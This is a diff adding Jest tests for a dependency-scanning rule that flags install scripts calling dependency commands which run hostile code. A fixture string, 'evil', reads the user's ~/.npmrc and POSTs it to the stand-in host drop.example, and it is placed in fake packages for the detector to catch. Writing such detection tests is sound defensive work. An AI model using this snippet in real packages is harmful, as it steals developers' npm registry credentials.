@@ -1,0 +1,120 @@
+import { describe, expect, it } from '@jest/globals';
+import { openEvidence } from '../../src/evidence/collect.ts';
+import type { ContentsReading } from '../../src/evidence/contents.ts';
+import { openTarballs } from '../../src/evidence/tarballs.ts';
+import type { ContentsEvidence } from '../../src/model/contents.ts';
+import { DepwardError } from '../../src/model/errors.ts';
+import type { Gathered } from '../../src/model/evidence.ts';
+import type { ResolvedPackage, ResolvedTree } from '../../src/model/package.ts';
+import { readTarball } from '../../src/registry/tarball.ts';
+import { added, at } from '../../src/rules/example.ts';
+import installCodeRisk from '../../src/rules/install-code-risk.ts';
+import { aPackument, type PackumentTale, packumentsOf } from '../helpers/a-packument.ts';
+import { aPackage } from '../helpers/a-tarball.ts';
+
+const now = at('2025-01-01T00:00:00Z');
+const evil =
+  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';
+
+interface Published {
+  readonly manifest: Readonly<Record<string, unknown>> & { readonly name: string; readonly version: string };
+  readonly files?: Readonly<Record<string, string>>;
+  readonly missing?: boolean;
+}
+
+const tool = (files: Readonly<Record<string, string>>, more: Partial<Published> = {}): Published => ({
+  manifest: { name: 'setup-kit', version: '1.2.3', bin: { 'Some-Tool': './bin/x.js' } },
+  files,
+  ...more,
+});
+const caller = (script: string): Published => ({
+  manifest: { name: 'caller', version: '1.0.0', scripts: { postinstall: script }, dependencies: { other: '^1.0.0', 'setup-kit': '^1.0.0' } },
+  files: { 'index.js': 'module.exports = 1' },
+});
+
+async function contentsOf(
+  packages: readonly Published[],
+  options: { tree?: boolean; wellKnown?: string } = {},
+): Promise<Gathered<ContentsEvidence> | undefined> {
+  const bytes = new Map<string, Buffer>();
+  const tales: PackumentTale[] = [aPackument('other').published('1.0.0', { at: '2020-01-01', bins: ['different'] })];
+  for (const { manifest, files, missing } of packages) {
+    const packed = aPackage(manifest, files);
+    const url = `https://registry.example/${manifest.name}.tgz`;
+    if (!missing) bytes.set(url, packed);
+    tales.push(
+      aPackument(manifest.name).published(manifest.version, {
+        at: '2024-06-01',
+        tarball: url,
+        integrity: (await readTarball(packed)).integrity,
+        scripts: (manifest['scripts'] as Record<string, string> | undefined) ?? {},
+        dependencies: (manifest['dependencies'] as Record<string, string> | undefined) ?? {},
+        bins: Object.keys((manifest['bin'] as Record<string, string> | undefined) ?? {}),
+      }),
+    );
+  }
+  const source = {
+    async *tarballBytes(url: string) {
+      const found = bytes.get(url);
+      if (!found) throw new DepwardError('network', 'the tarball cannot be had');
+      yield found;
+    },
+  };
+  const contents: ContentsReading = { tarballs: openTarballs(source, undefined), offline: false, settledDays: 0, wanted: new Set() };
+  const change = added('caller', '1.0.0');
+  const gathered = await openEvidence({
+    packuments: packumentsOf(tales),
+    names: (name) => ({ near: [], ...(name === options.wellKnown && { downloads: 9_000_000 }) }),
+    now,
+    contents,
+    ...(options.tree && { tree: treeOf([change.after, added('setup-kit', '1.2.3').after]) }),
+  }).gather([change], ['contents']);
+  return gathered.get(change)?.contents;
+}
+
+function treeOf(packages: readonly ResolvedPackage[]): ResolvedTree {
+  return { format: 'test', root: {}, packages, dependentsOf: () => [] };
+}
+
+function risks(contents: Gathered<ContentsEvidence> | undefined) {
+  if (!contents?.ok) throw new Error(contents?.reason ?? 'nothing was gathered');
+  return installCodeRisk.check(added('caller', '1.0.0'), { contents: contents.value }, { now, options: {} });
+}
+
+describe('a command of a dependency that the install calls', () => {
+  it.each([{ tree: true }, { tree: false }])('is read and judged as run by installing (%p)', async (options) => {
+    const [found] = risks(
+      await contentsOf([caller('some-tool setup'), tool({ 'bin/x.js': 'require("../lib/steal")', 'lib/steal.js': evil })], options),
+    );
+    expect(found).toMatchObject({ signal: 'install-code-risk:convicts', confidence: 'high' });
+    expect(String(found?.facts['does'])).toContain('setup-kit@1.2.3/lib/steal.js:');
+    expect(found?.facts['calls']).toEqual(['some-tool: setup-kit@1.2.3/bin/x.js']);
+  });
+
+  it('is followed through npx, and nothing else of that package counts', async () => {
+    const contents = await contentsOf([
+      caller('npx some-tool@1 setup'),
+      tool({ 'bin/x.js': 'console.log("ready")', 'index.js': evil, 'install.js': evil }),
+    ]);
+    expect(contents).toMatchObject({ ok: true, value: { calls: [{ command: 'some-tool', from: 'setup-kit@1.2.3' }] } });
+    expect(risks(contents)).toEqual([]);
+  });
+
+  it('is not taken for clean when its bytes cannot be had', async () => {
+    expect(await contentsOf([caller('some-tool setup'), tool({}, { missing: true })])).toMatchObject({ ok: false, why: 'failed' });
+  });
+
+  it('is named and not read when the tool is well known and has stood', async () => {
+    const contents = await contentsOf([caller('some-tool setup'), tool({}, { missing: true })], { wellKnown: 'setup-kit' });
+    expect(contents).toMatchObject({
+      ok: true,
+      value: { calls: [{ command: 'some-tool', from: 'setup-kit@1.2.3', notRead: expect.stringMatching(/well known/) }] },
+    });
+  });
+
+  it('that no dependency offers is said plainly; what the machine has is not asked about', async () => {
+    const [found] = risks(await contentsOf([caller('make all && fetch-parts'), tool({ 'bin/x.js': '' })]));
+    expect(found).toMatchObject({ confidence: 'low', message: 'installing it calls fetch-parts, which no package it depends on offers' });
+    expect(found?.facts['calls']).toEqual(['fetch-parts: no package it depends on offers it, and it is no known tool of the system']);
+  });
+});
